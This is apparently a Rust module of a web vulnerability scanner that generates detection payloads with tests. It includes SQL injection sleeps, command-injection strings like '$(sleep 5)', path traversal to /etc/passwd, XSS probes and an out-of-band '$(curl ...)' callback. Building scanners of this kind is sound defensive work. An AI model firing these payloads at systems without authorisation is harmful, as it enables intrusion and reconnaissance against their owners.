//! Payload generators.
//!
//! Checks never hard-code payload strings; they ask the generators for a
//! family and get back values plus the evidence marker (or expected sleep,
//! or minted OOB identifier) needed to judge the response.

use std::fmt;
use std::str::FromStr;
use std::sync::Arc;
use std::time::Duration;

use serde::{Deserialize, Serialize};

use crate::interactions::{InteractionsManager, OobUrl};

/// How long time-based payloads ask the target to stall.
pub const EXPECTED_SLEEP: Duration = Duration::from_secs(5);

/// Arithmetic canary rendered by template engines: 81*81.
const SSTI_MARKER: &str = "6561";

/// The closed set of payload families.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum PayloadFamily {
    SstiBasic,
    Xss,
    PathTraversal,
    SqliTime,
    CmdInjectionTime,
    OobHttp,
}

impl PayloadFamily {
    pub fn as_str(&self) -> &'static str {
        match self {
            PayloadFamily::SstiBasic => "ssti_basic",
            PayloadFamily::Xss => "xss",
            PayloadFamily::PathTraversal => "path_traversal",
            PayloadFamily::SqliTime => "sqli_time",
            PayloadFamily::CmdInjectionTime => "cmd_injection_time",
            PayloadFamily::OobHttp => "oob_http",
        }
    }

    /// Families whose detection rests on response delay.
    pub fn is_time_based(&self) -> bool {
        matches!(
            self,
            PayloadFamily::SqliTime | PayloadFamily::CmdInjectionTime
        )
    }
}

impl fmt::Display for PayloadFamily {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl FromStr for PayloadFamily {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s {
            "ssti_basic" => Ok(PayloadFamily::SstiBasic),
            "xss" => Ok(PayloadFamily::Xss),
            "path_traversal" => Ok(PayloadFamily::PathTraversal),
            "sqli_time" => Ok(PayloadFamily::SqliTime),
            "cmd_injection_time" => Ok(PayloadFamily::CmdInjectionTime),
            "oob_http" => Ok(PayloadFamily::OobHttp),
            other => Err(format!("unknown payload family: {other}")),
        }
    }
}

/// One concrete payload with its detection metadata.
#[derive(Debug, Clone)]
pub struct Payload {
    pub value: String,
    /// Substring in the response body that proves execution.
    pub marker: Option<String>,
    /// Delay time-based payloads induce on success.
    pub expected_sleep: Option<Duration>,
    /// The identifier minted for OOB payloads.
    pub oob: Option<OobUrl>,
}

impl Payload {
    fn reflected(value: &str, marker: &str) -> Self {
        Self {
            value: value.to_string(),
            marker: Some(marker.to_string()),
            expected_sleep: None,
            oob: None,
        }
    }

    fn timed(value: &str) -> Self {
        Self {
            value: value.to_string(),
            marker: None,
            expected_sleep: Some(EXPECTED_SLEEP),
            oob: None,
        }
    }
}

/// Enumerates payloads per family, minting OOB identifiers on demand.
pub struct PayloadGenerators {
    interactions: Option<Arc<InteractionsManager>>,
}

impl PayloadGenerators {
    pub fn new() -> Self {
        Self { interactions: None }
    }

    pub fn with_interactions(interactions: Arc<InteractionsManager>) -> Self {
        Self {
            interactions: Some(interactions),
        }
    }

    pub fn generate(&self, family: PayloadFamily) -> Vec<Payload> {
        match family {
            PayloadFamily::SstiBasic => vec![
                Payload::reflected("{{81*81}}", SSTI_MARKER),
                Payload::reflected("${81*81}", SSTI_MARKER),
                Payload::reflected("<%= 81*81 %>", SSTI_MARKER),
            ],
            PayloadFamily::Xss => vec![
                Payload::reflected(r#"q3x8"'><b>zs</b>"#, r#""'><b>zs</b>"#),
                Payload::reflected(
                    r#"<script>window.qzs=1</script>"#,
                    r#"<script>window.qzs=1</script>"#,
                ),
            ],
            PayloadFamily::PathTraversal => vec![
                Payload::reflected("../../../../etc/passwd", "root:x:"),
                Payload::reflected("....//....//....//etc/passwd", "root:x:"),
                Payload::reflected("..%2f..%2f..%2f..%2fetc%2fpasswd", "root:x:"),
            ],
            PayloadFamily::SqliTime => vec![
                Payload::timed("' AND SLEEP(5)-- -"),
                Payload::timed("'; SELECT pg_sleep(5)-- -"),
                Payload::timed("' WAITFOR DELAY '0:0:5'--"),
            ],
            PayloadFamily::CmdInjectionTime => vec![
                Payload::timed(";sleep 5"),
                Payload::timed("|sleep 5"),
                Payload::timed("$(sleep 5)"),
            ],
            PayloadFamily::OobHttp => self.oob_payloads(),
        }
    }

    fn oob_payloads(&self) -> Vec<Payload> {
        let Some(interactions) = &self.interactions else {
            tracing::debug!("no interactions manager; skipping out-of-band payloads");
            return Vec::new();
        };

        let templates = [
            "http://{host}/p",
            "$(curl -s http://{host}/c)",
            r#"<img src="http://{host}/i"/>"#,
        ];
        templates
            .iter()
            .filter_map(|template| {
                let oob = match interactions.oob_url() {
                    Ok(oob) => oob,
                    Err(e) => {
                        tracing::debug!("cannot mint out-of-band identifier: {e}");
                        return None;
                    }
                };
                Some(Payload {
                    value: template.replace("{host}", &oob.host),
                    marker: None,
                    expected_sleep: None,
                    oob: Some(oob),
                })
            })
            .collect()
    }
}

impl Default for PayloadGenerators {
    fn default() -> Self {
        Self::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::error::OobError;
    use crate::interactions::{InteractionsConfig, OobClient, OobSession, RawInteraction};

    struct AlwaysOkClient;

    #[async_trait::async_trait]
    impl OobClient for AlwaysOkClient {
        async fn register(&self, _session: &OobSession) -> Result<(), OobError> {
            Ok(())
        }
        async fn poll(&self, _session: &OobSession) -> Result<Vec<RawInteraction>, OobError> {
            Ok(Vec::new())
        }
        async fn keep_alive(&self, _session: &OobSession) -> Result<(), OobError> {
            Ok(())
        }
        async fn deregister(&self, _session: &OobSession) -> Result<(), OobError> {
            Ok(())
        }
    }

    #[test]
    fn reflected_families_carry_markers() {
        let generators = PayloadGenerators::new();
        for family in [
            PayloadFamily::SstiBasic,
            PayloadFamily::Xss,
            PayloadFamily::PathTraversal,
        ] {
            let payloads = generators.generate(family);
            assert!(!payloads.is_empty());
            assert!(payloads.iter().all(|p| p.marker.is_some()));
        }
    }

    #[test]
    fn time_based_families_carry_sleep() {
        let generators = PayloadGenerators::new();
        for family in [PayloadFamily::SqliTime, PayloadFamily::CmdInjectionTime] {
            assert!(family.is_time_based());
            let payloads = generators.generate(family);
            assert!(
                payloads
                    .iter()
                    .all(|p| p.expected_sleep == Some(EXPECTED_SLEEP))
            );
        }
    }

    #[test]
    fn oob_without_manager_is_empty() {
        let generators = PayloadGenerators::new();
        assert!(generators.generate(PayloadFamily::OobHttp).is_empty());
    }

    #[tokio::test]
    async fn oob_payloads_embed_minted_hosts() {
        let dir = tempfile::tempdir().unwrap();
        let config = InteractionsConfig::new("https://oob.example.test")
            .with_session_file(dir.path().join("session.json"));
        let manager = std::sync::Arc::new(InteractionsManager::new(
            std::sync::Arc::new(AlwaysOkClient),
            config,
        ));
        manager.start().await.unwrap();

        let generators = PayloadGenerators::with_interactions(manager.clone());
        let payloads = generators.generate(PayloadFamily::OobHttp);
        assert_eq!(payloads.len(), 3);
        for payload in &payloads {
            let oob = payload.oob.as_ref().unwrap();
            assert!(payload.value.contains(&oob.host));
            assert!(oob.full_id.starts_with(&manager.correlation_id().unwrap()));
        }

        manager.stop().await;
    }
}
